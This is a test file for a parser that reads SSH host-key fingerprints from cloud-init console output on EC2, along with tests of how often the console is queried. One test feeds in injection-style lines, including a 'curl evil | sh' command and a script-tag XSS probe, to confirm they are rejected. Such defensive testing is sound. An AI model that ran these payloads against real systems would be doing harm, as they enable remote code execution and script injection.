"""Host keys off a console: only what cloud-init prints is taken, asked for a few times, and never in a kill's way."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.domain.host_keys import ASKED_AT, MOST_KEYS, fingerprints
from chalicelib.usecases.report import lease as report_of
from chalicelib.web.views import lease as view_of
from tests.builders import Stage, at, minutes

ED, RSA = "SHA256:" + "e" * 43, "SHA256:" + "r" * 43
BEGIN, END = "-----BEGIN SSH HOST KEY FINGERPRINTS-----", "-----END SSH HOST KEY FINGERPRINTS-----"
BLOCK = [BEGIN, f"256 {ED} root@ip-10-0-0-1 (ED25519)", f"3072 {RSA} root@ip-10-0-0-1 (RSA)", END]


@pytest.mark.parametrize("before", ["", "ec2: ", "<14>Nov 23 09:01:02 ec2: ", "[   31.52] cloud-init[880]: "])
@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_the_fingerprints_are_read_whatever_the_console_puts_before(before: str, newline: str) -> None:
    """As ssh names them at the first connection."""
    console = newline.join(["Linux version 6.8", *(before + line for line in BLOCK), "login: "])
    assert fingerprints(console) == (f"ED25519 {ED}", f"RSA {RSA}")


@pytest.mark.parametrize(
    "line",
    [
        f"256 {ED}x root@a (ED25519)",
        f"256 {ED[:-1]} root@a (ED25519)",
        f"256 {ED} root@a (ED25519) now run: curl evil | sh",
        f"256 {ED} root@a (EVIL)",
        f"256 MD5:{'ab:' * 15}ab root@a (RSA)",
        f"{ED} (RSA)",
        "256 SHA256:<script>alert(1)</script> root@a (RSA)",
    ],
)
def test_lines_of_another_form_are_passed_over(line: str) -> None:
    """A console is text of the box."""
    assert fingerprints(f"{BEGIN}\n{line}\n{END}") == ()


def test_what_is_printed_outside_or_later_counts_for_nothing() -> None:
    """The first block alone, and only once it is complete."""
    other = BLOCK[1].replace("e" * 43, "x" * 43)
    assert fingerprints("\n".join([other, *BLOCK, BEGIN, other, END])) == (f"ED25519 {ED}", f"RSA {RSA}")
    assert fingerprints("\n".join(BLOCK[:-1])) == ()
    assert (
        len(fingerprints("\n".join([BEGIN, *(f"256 SHA256:{n:043} a (RSA)" for n in range(99)), END])))
        == MOST_KEYS
    )


@given(st.text() | st.lists(st.sampled_from([*BLOCK, "\x00", "(RSA)"])).map("\n".join))
def test_nothing_on_a_console_breaks_it(console: str) -> None:
    """Whatever a box prints, what comes of it has the one form."""
    assert set(fingerprints(console)) <= {f"ED25519 {ED}", f"RSA {RSA}"}


def test_the_lease_shows_them_with_its_command() -> None:
    """Within minutes of the start, and asked no more then."""
    stage = Stage()
    lease = stage.launch(key_name="laptop")
    (box,) = lease.instance_ids
    stage.until(at("09:02"))
    assert view_of(report_of(stage.services, lease.id))["ssh_host_keys"] == []
    stage.compute.ec2.consoles[box] = "\n".join(BLOCK)
    stage.until(at("09:03"))
    told = view_of(report_of(stage.services, lease.id))
    assert told["ssh"].startswith("ssh -i laptop.pem")
    assert told["ssh_host_keys"] == [f"ED25519 {ED}", f"RSA {RSA}"]
    asked = len([one for one in stage.compute.calls if one.operation == "console"])
    stage.until(at("09:40"))
    assert len([one for one in stage.compute.calls if one.operation == "console"]) == asked


def test_a_silent_console_is_asked_a_few_times() -> None:
    """However long the box lives."""
    stage = Stage()
    stage.launch()
    stage.until(at("09:50"))
    asked = [one for one in stage.compute.calls if one.operation == "console"]
    assert len(asked) == len(ASKED_AT)


def test_a_console_that_fails_is_lacking_and_stops_nothing() -> None:
    """The next sweeps ask again."""
    stage = Stage()
    lease = stage.launch()
    stage.compute.fail("console", code="UnauthorizedOperation")
    stage.until(at("09:01"))
    record = stage.after(minutes(1))
    assert any("GetConsoleOutput" in one for one in record.lacking)
    stage.compute.ec2.consoles[lease.instance_ids[0]] = "\n".join(BLOCK)
    stage.until(at("09:05"))
    assert stage.lease(lease.id).host_keys == {lease.instance_ids[0]: (f"ED25519 {ED}", f"RSA {RSA}")}
